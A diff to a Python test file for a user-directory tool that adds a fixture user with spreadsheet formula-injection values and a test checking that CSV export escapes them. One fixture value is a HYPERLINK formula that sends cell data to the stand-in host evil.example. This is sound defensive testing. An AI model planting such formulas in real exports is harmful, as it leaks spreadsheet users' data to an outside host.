@@ -53,7 +53,30 @@ def varied() -> dict[str, Any]:
             "costCenter": "CC-7",  # not a Graph attribute: kept as given
         }
     )
+    document["users"].append(  # cells a spreadsheet would run as formulas: written as text
+        {
+            "userPrincipalName": "hostile@corp.example",
+            "displayName": '=HYPERLINK("https://evil.example/?"&A1,"open")',
+            "jobTitle": "'=quoted already",
+            "department": "@SUM(1+1)",
+            "businessPhones": ["+1 555 0100", "-2"],
+        }
+    )
     return document
+
+
+async def test_no_cell_of_a_csv_export_starts_a_formula(directory_db: Database) -> None:
+    import csv  # noqa: PLC0415
+    import io  # noqa: PLC0415
+
+    from enlist.csv_cells import FORMULA_STARTS  # noqa: PLC0415
+
+    async with directory_db.write() as conn:
+        await import_directory(conn, parse_directory_json(json.dumps(varied())), replace=False)
+        exported = users_csv((await export_document(conn))["users"])
+    cells = [cell for row in csv.reader(io.StringIO(exported)) for cell in row]
+    assert '\'=HYPERLINK("https://evil.example/?"&A1,"open")' in cells
+    assert not [cell for cell in cells if cell.startswith(FORMULA_STARTS)]
 
 
 async def snapshot(db: Database) -> dict[str, Any]:
